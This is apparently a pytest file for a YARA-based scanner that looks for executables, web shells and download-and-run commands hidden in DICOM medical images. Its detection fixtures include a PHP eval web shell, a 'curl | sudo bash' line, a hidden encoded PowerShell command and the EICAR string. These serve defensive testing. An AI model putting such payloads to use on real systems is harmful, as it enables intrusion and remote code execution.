"""Rules are found, compiled and applied; ours match what they should and no real image."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.dicom.made import SPECIMENS, real_files

from leadglass import limits
from leadglass.edge.engines_yara import RuleEngine, RuleScan, compile_rules, rule_files
from leadglass.edge.sandbox import own_rules
from leadglass.errors import UsageError
from leadglass.finding import Finding, Severity

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DICOM = bytes(128) + b"DICM" + bytes(64)
PE = b"MZ" + bytes(58) + (128).to_bytes(4, "little") + b"This program cannot be run in DOS mode".ljust(64) + b"PE\0\0"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0\x01\0\0\0"


@pytest.fixture(scope="module")
def ours() -> RuleEngine:
    return compile_rules([own_rules()])


def found(engine: RuleEngine, data: bytes, cut: int = 1 << 20) -> tuple[Finding, ...]:
    scan = RuleScan(engine)
    for at in range(0, len(data), cut):
        scan.feed(data[at : at + cut])
    return scan.finish()


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (EICAR, "eicar_test_file"),
        (DICOM + EICAR, "eicar_test_file"),
        (DICOM + PE, "windows_program_in_an_image"),
        (DICOM + ELF, "linux_program_in_an_image"),
        (b"<?php @eval($_POST['x']); ?>", "web_shell"),
        (b"x; curl -s http://192.0.2.1/a | sudo bash", "download_and_run"),
        (b"PowerShell -w hidden -enc " + b"QUJD" * 12, "download_and_run"),
    ],
)
def test_each_rule_of_ours_matches_its_example(ours: RuleEngine, data: bytes, rule: str) -> None:
    (finding,) = found(ours, data)
    assert finding.claim == f"The YARA rule leadglass.{rule} matches."
    assert finding.severity is Severity.HIGH


@pytest.mark.parametrize("data", [b"", DICOM, PE, ELF, DICOM + b"MZ" + bytes(200), b"curl -o x http://a"])
def test_no_rule_of_ours_matches_what_is_harmless(ours: RuleEngine, data: bytes) -> None:
    assert found(ours, data) == ()


def test_no_rule_of_ours_matches_a_real_image(ours: RuleEngine) -> None:
    matched = {path.name for path in real_files() if found(ours, path.read_bytes())}
    matched |= {path.name for path in real_files(folder=SPECIMENS / "benign-but-odd") if found(ours, path.read_bytes())}
    assert matched == set()


def test_where_a_match_lies_is_told(ours: RuleEngine) -> None:
    (finding,) = found(ours, bytes(5_000) + EICAR, cut=777)
    assert (finding.offset, finding.length) == (5_000, 33)


def test_a_long_object_is_looked_through_in_windows(ours: RuleEngine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "RULES_BYTES_MAX", 2 << 20)
    for at in (0, (2 << 20) - 10, (3 << 20) + 5, (5 << 20) - 70):
        data = bytearray(5 << 20)
        data[at : at + len(EICAR)] = EICAR
        (finding,) = found(ours, bytes(data[: 5 << 20]), cut=100_000)
        assert finding.offset == at


def compiled(folder: Path, *rules: str) -> RuleEngine:
    for number, rule in enumerate(rules):
        (folder / f"set{number}.yar").write_text(rule)
    return compile_rules([folder])


@pytest.mark.parametrize(
    ("rule", "severity"),
    [
        ("rule a { condition: true }", Severity.MEDIUM),
        ('rule a { meta: severity = "LOW" condition: true }', Severity.LOW),
        ('rule a { meta: severity = "nonsense" condition: true }', Severity.MEDIUM),
        ('rule a { meta: category = "MALWARE" condition: true }', Severity.HIGH),
        ("rule a : malicious { condition: true }", Severity.HIGH),
    ],
)
def test_how_grave_a_match_is_says_the_rule(tmp_path: Path, rule: str, severity: Severity) -> None:
    (finding,) = found(compiled(tmp_path, rule), b"x")
    assert finding.severity is severity


def test_two_sets_may_use_the_same_name(tmp_path: Path) -> None:
    engine = compiled(tmp_path, "rule a { condition: true }", "rule a { condition: true }")
    assert engine.count == 2
    assert [f.claim for f in found(engine, b"x")] == ["The YARA rule set0.a matches.", "The YARA rule set1.a matches."]


def test_a_rule_that_does_not_compile_names_its_file(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"set1\.yar does not compile"):
        compiled(tmp_path, "rule a { condition: true }", "rule b { condition: nothing }")


def test_paths_without_rules_are_told(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="No rule was found"):
        rule_files([tmp_path])
    with pytest.raises(UsageError, match="There are no rules at"):
        rule_files([tmp_path / "none"])
